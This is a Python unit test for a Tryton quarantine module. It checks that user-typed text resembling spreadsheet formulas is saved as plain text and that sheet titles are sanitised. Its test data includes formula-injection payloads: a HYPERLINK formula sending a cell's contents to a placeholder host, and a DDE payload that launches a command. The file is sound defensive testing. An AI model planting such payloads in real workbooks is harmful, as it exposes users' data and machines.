# This file is part of the quarantine module.  See README.md for licensing.
"""The workbooks given to the users hold texts, never formulas, and sheets
named after what users typed"""
import io
import unittest

from openpyxl import Workbook, load_workbook

from trytond.modules.quarantine.excel import save, sheet_title

INJECTIONS = [
    '=HYPERLINK("http://example.invalid/?"&B2,"点击")',
    '=1+1',
    "=cmd|' /C calc'!A0",
    ]


class WorkbookTestCase(unittest.TestCase):
    "Workbooks written by save()"

    def test_formula_like_text_stays_text(self):
        "A cell typed like a formula is written and read back as that text"
        workbook = Workbook()
        sheet = workbook.active
        sheet.append(["姓名", "社区"])
        for text in INJECTIONS:
            sheet.append([text, "和平社区"])
        sheet = load_workbook(io.BytesIO(save(workbook))).active
        for row, text in enumerate(INJECTIONS, start=2):
            cell = sheet.cell(row, 1)
            with self.subTest(text=text):
                self.assertEqual(cell.value, text)
                self.assertEqual(cell.data_type, 's')

    def test_sheet_title(self):
        "A community's name makes a sheet title Excel accepts"
        for text, title in [
                ("和平社区", "和平社区"),
                ("和平社区:一/二", "和平社区_一_二"),
                ("a[b]*c?d\\e", "a_b__c_d_e"),
                ("'引号'", "引号"),
                ("", "_"),
                ("社" * 40, "社" * 31),
                ]:
            with self.subTest(text=text):
                self.assertEqual(sheet_title(text), title)
                workbook = Workbook()
                workbook.create_sheet(sheet_title(text))
                save(workbook)
